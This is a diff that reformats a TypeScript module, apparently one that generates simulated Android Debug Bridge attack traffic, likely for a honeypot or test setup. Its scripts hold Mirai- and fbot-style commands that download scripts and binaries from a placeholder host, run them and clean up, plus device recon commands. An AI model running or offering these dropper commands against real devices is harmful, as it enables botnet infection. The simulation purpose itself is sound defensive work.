@@ -20,16 +20,23 @@ function moneroWallet(rng: Rng): string {
   return s;
 }
 
-const RECON = ['shell:getprop ro.product.model', 'shell:getprop ro.product.cpu.abi', 'shell:uname -a', 'shell:cat /proc/cpuinfo', 'shell:id'];
+const RECON = [
+  'shell:getprop ro.product.model',
+  'shell:getprop ro.product.cpu.abi',
+  'shell:uname -a',
+  'shell:cat /proc/cpuinfo',
+  'shell:id',
+];
 
 export const ADB_SCRIPTS: readonly AdbScript[] = [
   {
     // Mirai-variant shell dropper: try every downloader the device might have, then clean up.
     family: 'mirai-adb',
     weight: 10,
-    commands: (rng, p) => [
+    commands: (_rng, p) => [
       `shell:echo -e '\\x61\\x6e\\x64\\x72\\x6f\\x69\\x64'`,
-      `shell:cd /data/local/tmp/; busybox wget http://${p}/w.sh; sh w.sh; curl http://${p}/c.sh; sh c.sh; wget http://${p}/wget.sh; sh wget.sh; busybox wget http://${p}/wget.sh; sh wget.sh; busybox curl http://${p}/wget.sh; sh wget.sh; rm -rf w.sh c.sh wget.sh`,
+      `shell:cd /data/local/tmp/; busybox wget http://${p}/w.sh; sh w.sh; curl http://${p}/c.sh; sh c.sh; wget http://${p}/wget.sh; sh ` +
+        `wget.sh; busybox wget http://${p}/wget.sh; sh wget.sh; busybox curl http://${p}/wget.sh; sh wget.sh; rm -rf w.sh c.sh wget.sh`,
     ],
   },
   {
@@ -54,7 +61,8 @@ export const ADB_SCRIPTS: readonly AdbScript[] = [
     commands: (rng, p) => [
       'shell:getprop ro.product.model',
       'shell:cat /proc/cpuinfo',
-      `shell:cd /data/local/tmp; busybox wget http://${p}/fbot.arm7 -O fbot; chmod 777 fbot; ./fbot adb.${pick(rng, ['arm7', 'arm', 'x86'])}`,
+      `shell:cd /data/local/tmp; busybox wget http://${p}/fbot.arm7 -O fbot; chmod 777 fbot; ./fbot ` +
+        `adb.${pick(rng, ['arm7', 'arm', 'x86'])}`,
       'shell:rm -rf /data/local/tmp/fbot',
     ],
   },
